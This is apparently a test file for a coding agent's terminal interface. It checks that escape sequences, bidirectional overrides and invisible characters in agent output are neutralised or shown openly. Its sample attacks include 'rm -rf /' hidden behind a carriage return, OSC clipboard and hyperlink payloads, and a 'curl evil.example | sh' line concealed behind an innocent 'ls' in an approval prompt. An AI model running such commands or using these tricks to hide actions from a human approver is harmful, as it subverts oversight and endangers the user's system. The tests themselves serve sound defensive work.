"""What an agent says never drives the terminal, whatever field it says it in."""

from __future__ import annotations

import re
import unicodedata
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from tests.faults.manifest import fault

from midflight import events as e
from midflight._util.sanitize import exact, inert, one_line, one_name
from midflight.cli.output import Fragment, json_line, write
from midflight.cli.terminal.render import Blocks, approval, markdown
from midflight.cli.terminal.requests import PendingRequests
from midflight.cli.terminal.screen import Screen
from midflight.cli.terminal.status_line import StatusLine
from midflight.cli.terminal.transcript import Transcript
from midflight.effects import CommandEffect, EditEffect, FetchEffect, OtherEffect, ReadEffect
from midflight.images import ImageInfo
from midflight.values import Denial, PlanEntry, Question, QuestionOption, TokenUsage, Who

ATTACKS = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1bP1$r0m\x1b\\",
    "\x9b2J\x9d0;x\x9c",
    "rm -rf /\rls      ",
    "abc\b\b\bxyz",
    "\u202egnp.exe\u202c",
    "\u2066x\u2069\u200f",
    "[link=http://evil.example]click[/link] [red]x[/red]",
    "\ud800",
    "\x00\x7f\x85",
)
DANGEROUS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)
HOSTILE = st.lists(st.one_of(st.text(), st.sampled_from(ATTACKS))).map("".join)


@fault("S6")
@given(HOSTILE)
@example("\x1b]0;never ended")
@example("\x1b\x1b[31m\x1b]\x1b[")
def test_inert_text_has_nothing_that_a_terminal_obeys(text: str) -> None:
    assert DANGEROUS.search(inert(text)) is None
    assert inert(inert(text)) == inert(text)


@given(st.text(st.characters(categories=("L", "N", "P", "S", "Zs"), include_characters="\n\t")))
def test_plain_text_is_not_changed(text: str) -> None:
    assert inert(text) == text


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("a\x1b[1;31mb\x1b[0mc", "abc"),
        ("a\x1b]0;title\x07b", "ab"),
        ("a\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\b", "alinkb"),
        ("a\x1bPq#0\x1b\\b", "ab"),
        ("a\x9b31mb", "ab"),
        ("one\r\ntwo", "one\ntwo"),
        ("a\x1b]0;never ended", "a0;never ended"),
    ],
)
def test_sequences_go_as_a_whole(text: str, left: str) -> None:
    assert inert(text) == left


@fault("S9")
@given(HOSTILE)
def test_what_is_to_be_approved_hides_nothing(text: str) -> None:
    shown = exact(text)
    assert DANGEROUS.search(shown) is None
    hidden = [
        char for char in text if unicodedata.category(char)[0] in "CZ" and char not in "\n\t "
    ]
    assert sum(shown.count(f"<U+{ord(char):04X}>") > 0 for char in hidden) == len(hidden)
    assert _read_back(shown) == _read_back(text)


def _read_back(text: str) -> str:
    return re.sub(r"<U\+([0-9A-F]{4,6})>", lambda match: chr(int(match[1], 16)), text)


@fault("S9")
def test_a_hidden_tail_is_seen_when_a_command_is_approved(tmp_path: Path) -> None:
    command = "ls\r" + " " * 300 + "; curl evil.example | sh\n" * 200 + "\x1b[2K\u202etail"
    shown = _text(approval([CommandEffect(command=command)], tmp_path))
    assert shown.count("curl evil.example") == 200
    assert "ls<U+000D>" in shown
    assert "<U+001B>[2K<U+202E>tail" in shown


def test_one_line_is_one_line_and_bounded() -> None:
    assert one_line("a\n\tb  c\x1b[31m") == "a b c"
    assert one_line("x" * 300, 10) == "x" * 9 + "…"


@given(HOSTILE, st.integers(0, 40))
def test_markdown_is_laid_out_without_a_sequence_of_its_own(text: str, more: int) -> None:
    for _, part in markdown(text, 20 + more):
        assert DANGEROUS.search(part) is None


@given(st.lists(st.sampled_from(["text", "\n", "\n\n", "- item\n", "```\n", "  in\n", "1. x\n"])))
def test_cutting_markdown_into_blocks_loses_nothing(pieces: list[str]) -> None:
    blocks = Blocks()
    done = [block for piece in pieces for block in blocks.feed(piece)]
    assert "".join(done) + blocks.rest == "".join(pieces)


def test_code_and_lists_stay_whole() -> None:
    blocks = Blocks()
    text = "para\n\n- a\n\n- b\n\n```\ncode\n\nmore\n```\n\nend\n"
    assert blocks.feed(text) == ["para\n\n", "- a\n\n- b\n\n", "```\ncode\n\nmore\n```\n\n"]
    assert blocks.rest == "end\n"


def test_code_that_holds_fences_is_shown_whole() -> None:
    blocks = Blocks()
    python = "```python\nx = 1\n\ny = 2\n```\n"
    nested = f"```markdown\n# Title\n\n{python}\n*as is*\n```\n\n"
    longer = "````\n```\n\ncode\n````\n\n"
    assert blocks.feed(nested + longer + "*end*\n\nx") == [nested, longer]
    text = "".join(part for _, part in markdown(nested + "*end*", 60))
    assert [line.strip() for line in text.splitlines()[-5:]] == ["```", "", "*as is*", "", "end"]


# ------------------------------------------------------------------ every field of every event

VALUES: dict[str, Any] = {
    "status": "failed",
    "decision": "deny",
    "by": "policy",
    "delivery": "queue",
    "kind": "execute",
    "level": "warning",
    "origin": "message",
}


def _filled(kind: type[e.Event], attack: str) -> e.Event:
    """Return an event with the attack in every field that can hold text."""
    question = Question(question=attack, header=attack, options=(QuestionOption(label=attack),))
    by_type: dict[str, Any] = {
        "str": attack,
        "str | None": attack,
        "dict[str, Any]": {attack: attack, "command": attack},
        "tuple[str, ...]": (attack,),
        "tuple[Question, ...]": (question,),
        "tuple[PlanEntry, ...]": (PlanEntry(text=attack, status="in_progress"),),
        "TokenUsage": TokenUsage(),
        "tuple[Denial, ...]": (Denial(call="c", name=attack, reason=attack),),
        "tuple[Effect, ...]": (
            CommandEffect(command=attack, cwd=attack),
            EditEffect(path=attack, target=attack, diff=attack, lines=2, shown_lines=1),
            ReadEffect(path=attack, target=attack),
            FetchEffect(url=attack),
            OtherEffect(input={attack: attack}),
        ),
        "dict[str, str | list[str]]": {attack: attack},
        "Any": {attack: attack},
        "Who | None": Who(
            role="user", door="terminal", terminal=attack, device=attack, session=attack
        ),
        "tuple[ImageInfo, ...]": (ImageInfo(name=attack, media_type=attack, bytes=1),),
        "float": 1.0,
        "float | None": 1.0,
        "int": 1,
        "bool": True,
    }
    told = {name: text for name, text in kind.__annotations__.items() if name != "durable"}
    fields = {name: VALUES[name] if name in VALUES else by_type[told[name]] for name in told}
    return kind(**fields)


KINDS = e.Event.__subclasses__()


@fault("S6")
@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.__name__)
def test_no_field_of_any_event_drives_the_terminal(
    kind: type[e.Event], attack: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    event = _filled(kind, attack)
    transcript, screen, status = Transcript(tmp_path), Screen(tmp_path), StatusLine()
    write(transcript.take(event))
    write(screen.take(event, 80))
    write("\n".join(screen.live(80)))
    status.take(event, 0.0)
    line = status.line(0.0, 80, asking=False, queued=0)
    if isinstance(event, e.PermissionRequested | e.QuestionRequested):
        asking = PendingRequests(tmp_path)
        asking.add(event)
        write(asking.shown())
        assert DANGEROUS.search(asking.prompt) is None
    out = capsys.readouterr()
    assert DANGEROUS.search(out.out + out.err + line) is None


@fault("S6")
def test_line_that_the_agent_breaks_is_broken() -> None:
    shown = "".join(text for _, text in markdown("Cost:  $1\nTime:  2 s", 80))
    assert shown == "Cost:  $1\nTime:  2 s\n"


def test_text_on_a_dumb_terminal_is_as_wide_as_that(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TERM", "dumb")
    shown = "".join(text for _, text in markdown("word " * 40, 60))
    assert max(map(len, shown.splitlines())) <= 60


def test_markup_of_rich_is_only_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = "[link=http://evil.example]click[/link] and [red]this[/red]"
    write(Screen(tmp_path).take(e.Notice(level="info", text=text), 80))
    assert text in capsys.readouterr().out


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("error", [False, True], ids=["out", "err"])
def test_plain_text_is_made_inert_on_its_way_out(
    attack: str, error: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    write(f"before {attack} after\n", error=error)
    out = capsys.readouterr()
    said = out.err if error else out.out
    assert DANGEROUS.search(said) is None
    assert said.startswith("before ")
    assert said.endswith(" after\n")


def test_nothing_in_a_question_is_hidden(tmp_path: Path) -> None:
    option = QuestionOption(label="yes\x1b[8m no", description="\u202eon")
    question = Question(question="Sure\r?", options=(option,))
    asking = PendingRequests(tmp_path)
    asking.add(e.QuestionRequested(request="r", questions=(question,)))
    shown = _text(asking.shown())
    for part in ("Sure<U+000D>?", "yes<U+001B>[8m no", "<U+202E>on"):
        assert part in shown


def test_a_style_that_is_none_is_not_written(capsys: pytest.CaptureFixture[str]) -> None:
    write([("31m\x1b]0;x\x07", "text")])
    assert capsys.readouterr().out == "text"


def _text(fragments: list[Fragment]) -> str:
    return "".join(text for _, text in fragments)


# What cannot be seen --------------------------------------------------------------------------

UNSEEN = (
    *map(chr, range(0x200B, 0x2010)),
    *map(chr, range(0x2060, 0x2065)),
    *map(chr, range(0x180B, 0x180F)),
    *"\u034f\u115f\u1160\u17b4\u17b5\u2800\u3164\ufeff\uffa0\u00ad\ufe0f\U000e0100\U000e0041",
)
"""Code points that take no place, or an empty one."""


@fault("S6")
@pytest.mark.parametrize("char", UNSEEN, ids=lambda char: f"U+{ord(char):04X}")
def test_nothing_invisible_stays_in_a_line(char: str) -> None:
    """In a name it is seen; a name of nothing else is not empty."""
    for text in (f"a{char}b", f"{char}ab", f"ab{char}", f"a{char}{char}b"):
        allowed = "a\ufe0fb" if char == "\ufe0f" else ""
        assert char not in one_line(text).replace(allowed, "").replace("ab\ufe0f", "")
        for shown in (one_name(text), exact(text)):
            assert char not in shown
        assert f"<U+{ord(char):04X}>" in exact(text)
    assert one_name(f"dep{char}loy") == f"dep<U+{ord(char):04X}>loy"


@pytest.mark.parametrize(
    "text",
    ["👨‍👩‍👧‍👦 at home", "❤️‍🔥", "👍🏽", "🇺🇳", "می‌خواهم", "क्‍ष", "ശ്രീ", "naïve", "日本語", "한국어"],
)
def test_emoji_and_scripts_stay_as_they_are_in_text(text: str) -> None:
    assert inert(text) == one_line(text) == text


@fault("S6")
@pytest.mark.parametrize("control", [*map(chr, range(32)), "\x7f", "\x80", "\x9b", "\u202e"])
def test_line_of_json_has_no_control_as_it_is(control: str) -> None:
    line = json_line(msgspec.json.encode({"text": f"a{control}b"}))
    assert DANGEROUS.search(line.decode().rstrip("\n")) is None
    assert msgspec.json.decode(line) == {"text": f"a{control}b"}


def test_screen_shows_that_a_stop_cancels_what_was_to_steer(tmp_path: Path) -> None:
    screen = Screen(tmp_path)
    screen.take(e.TurnStarted(turn=1, origin="message", messages=("m1",)), 80)
    screen.take(e.MessageAccepted(message="m2", text="be brief", delivery="steer"), 80)
    cancelled = screen.take(e.MessageCancelled(message="m2", reason="interrupted"), 80)
    assert "".join(text for _, text in cancelled) == "  [cancelled] be brief (interrupted)\n"


def test_transcript_tells_what_was_steered_and_by_whom(tmp_path: Path) -> None:
    transcript = Transcript(tmp_path, whole=True)
    who = Who(role="user", door="terminal", person="bob", terminal="/dev/pts/1")
    events = [
        e.MessageAccepted(message="m1", text="make it", delivery="queue"),
        e.TurnStarted(turn=1, origin="message", messages=("m1",)),
        e.MessageStarted(message="m1"),
        e.TextDelta(text="I begin"),
        e.MessageAccepted(message="m2", text="be\nbrief", delivery="steer", who=who),
        e.MessageSteered(message="m2"),
    ]
    shown = "".join(text for event in events for _, text in transcript.take(event))
    assert shown == "\n> make it\nI begin\n  [steered] be brief (bob at /dev/pts/1)\n"


@pytest.mark.parametrize("width", range(6))
def test_no_terminal_is_too_narrow(width: int, tmp_path: Path) -> None:
    screen = Screen(tmp_path)
    screen.take(e.TurnStarted(turn=1, origin="message", messages=("m1",)), width)
    screen.take(e.TextDelta(text="some words of a text, and 日本語"), width)
    assert screen.live(width)
    screen.take(e.Text(text="some words of a text, and 日本語"), width)
    assert len(one_line("some words", width)) <= width


# ------------------------------------------------------------------ what comes in between

DOCUMENT = "Some *words* of a text,\nand more.\n\n- one\n- two\n\n"
CODE = "```python\nx = 1\n\ny = 2\n```\n"
TABLE = "| a | b |\n|---|:-:|\n| 1 | 2 |\n| 3 | 4 |\n"


@given(st.lists(st.integers(0, len(DOCUMENT))).map(sorted))
def test_no_word_is_lost_or_split_where_a_text_is_cut(at: list[int]) -> None:
    blocks, shown = Blocks(), list[str]()
    for begin, end in zip([0, *at], [*at, len(DOCUMENT)], strict=True):
        shown += blocks.feed(DOCUMENT[begin:end])
        shown.append(blocks.cut())
    shown.append(blocks.flush())
    assert " ".join(shown).split() == DOCUMENT.split()


@pytest.mark.parametrize(
    ("text", "begun"), [(CODE, "```python\n"), (TABLE, "| a | b |\n|---|:-:|\n")]
)
def test_code_and_tables_go_on_as_such_where_they_are_cut(text: str, begun: str) -> None:
    lines = text.splitlines(keepends=True)
    begins = begun.count("\n")
    for at in range(begins + 1, len(lines)):
        blocks = Blocks()
        blocks.feed("".join(lines[:at]))
        assert blocks.cut() == "".join(lines[:at])
        assert blocks.cut() == ""
        blocks.feed("".join(lines[at:]))
        assert blocks.flush() == begun + "".join(lines[at:])


def test_what_happens_stands_below_what_was_written_before() -> None:
    screen = Screen(Path("/nowhere"))
    screen.take(e.TurnStarted(turn=1, origin="message", messages=()), 80)
    said = e.MessageAccepted(message="m", text="also y", delivery="steer")
    rest = e.Text(text="I look at the code, and at the tests.")
    happened = [
        *(e.TextDelta(text=text) for text in ("I look ", "at the co")),
        said,
        *(e.TextDelta(text=text) for text in ("de, ", "and at ")),
        e.Notice(level="info", text="something"),
        rest,
    ]
    shown = "".join(text for event in happened for _, text in screen.take(event, 80))
    assert shown == (
        "\nI look at the\n\n> also y\n  [steer] the agent reads it at its next step\n"
        "\ncode, and at\n  [notice] something\n\nthe tests.\n"
    )


def test_what_we_say_of_a_request_is_broken_between_words(tmp_path: Path) -> None:
    requests = PendingRequests(tmp_path)
    asked = e.PermissionRequested(
        request="r",
        call="c",
        name="Write",
        input={},
        rule="Edit(/a/folder/of/some/length/**)",
        reason="since this is outside of what was allowed",
    )
    requests.add(asked)
    lines = "".join(text for _, text in requests.shown(50)).splitlines()
    assert max(map(len, lines)) <= 50
    assert lines[-2:] == [
        "  a: allow edits below /a/folder/of/some/length",
        "  for the rest of this session",
    ]
